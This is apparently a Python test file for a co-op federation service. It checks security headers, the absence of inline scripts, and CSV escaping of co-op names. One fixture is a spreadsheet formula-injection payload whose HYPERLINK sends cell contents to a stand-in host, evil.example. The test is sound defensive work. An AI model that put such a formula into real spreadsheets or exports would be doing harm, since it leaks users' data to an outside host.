"""Every answer of the node and the consortium carries the security headers; the
pages hold no inline script or style, so a CSP without 'unsafe-inline' holds."""

import asyncio
import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import aiohttp

from federation.broker import NatsServer
from federation.http import make_consortium_app
from federation.service import ConsortiumService
from node.config import NodeConfig, new_secret
from node.service import NodeService
from tests.keys import KeyBook, coop_seed
from tests.web import LiveNode, bearer, serving
from toolkit.config import BrokerConfig, StoreConfig

INLINE = re.compile(
    r"<script(?![^>]*\bsrc=)[^>]*>|<style\b|\sstyle=|\son[a-z]+=|javascript:", re.I
)


def assert_secured(response: aiohttp.ClientResponse, path: str) -> None:
    headers = response.headers
    policy = headers.get("Content-Security-Policy", "")
    assert "frame-ancestors 'none'" in policy, path
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy, path
    assert headers.get("X-Content-Type-Options") == "nosniff", path
    assert headers.get("Referrer-Policy") == "no-referrer", path
    if not path.startswith("/static/"):
        assert headers.get("Cache-Control") == "no-store", path


async def test_node_answers_carry_the_headers_and_pages_no_inline_code(
    http_node: LiveNode,
) -> None:
    admin = bearer(http_node.admin_token)
    async with aiohttp.ClientSession() as session:
        for path in ("/", "/login", "/staff", "/staff/ballots", "/staff/visits"):
            async with session.get(http_node.url + path, headers=admin) as response:
                assert response.status == 200, path
                assert_secured(response, path)
                assert not INLINE.findall(await response.text()), path
        for path in ("/api/members", "/nowhere", "/static/layout.css"):
            async with session.get(http_node.url + path, headers=admin) as response:
                assert_secured(response, path)
        async with session.get(f"{http_node.url}/static/node/turnout.js") as response:
            assert response.status == 200
            assert "setInterval" in await response.text()


async def test_consortium_answers_carry_the_headers(
    make_consortium: Callable[..., ConsortiumService], nats_server: NatsServer
) -> None:
    service = make_consortium([nats_server.url])
    async with (
        serving(make_consortium_app(service)) as url,
        aiohttp.ClientSession() as session,
    ):
        for path in ("/", "/api/report", "/static/layout.css"):
            async with session.get(url + path) as response:
                assert response.status == 200, path
                assert_secured(response, path)
                if path == "/":
                    assert not INLINE.findall(await response.text())


async def test_a_coop_named_like_a_formula_is_text_in_the_csv(
    tmp_path: Path,
    nats_server: NatsServer,
    make_consortium: Callable[..., ConsortiumService],
    key_book: KeyBook,
) -> None:
    """A co-op may call itself anything; a spreadsheet opening the consortium's
    CSV must not run its name as a formula."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
    consortium = make_consortium([nats_server.url])
    node = NodeService(
        NodeConfig(
            coop_id="evil",
            name=evil,
            secret=new_secret(),
            store=StoreConfig(path=str(tmp_path / "evil.db")),
            broker=BrokerConfig(servers=[nats_server.url], nkey_seed=coop_seed("evil")),
        )
    )
    key_book.add_coop("evil", evil)
    node.found_if_new()
    node.start()
    try:
        await until_applied(consortium, node)
        async with (
            serving(make_consortium_app(consortium)) as url,
            aiohttp.ClientSession() as session,
        ):
            for figure in ("coops", "growth-tree"):
                async with session.get(f"{url}/figures/{figure}.csv") as response:
                    rows = list(csv.reader(io.StringIO(await response.text())))
                names = [row[1] for row in rows[1:]]
                assert names == ["'" + evil], figure
    finally:
        await node.stop()


async def until_applied(consortium: ConsortiumService, node: NodeService) -> None:
    for _ in range(400):
        if (
            node.caught_up
            and consortium.views.position(node.config.coop_id)
            >= (node.replicator.published.seq)
            > 0
        ):
            return
        await asyncio.sleep(0.05)
    raise TimeoutError("the consortium did not apply the node's envelopes")
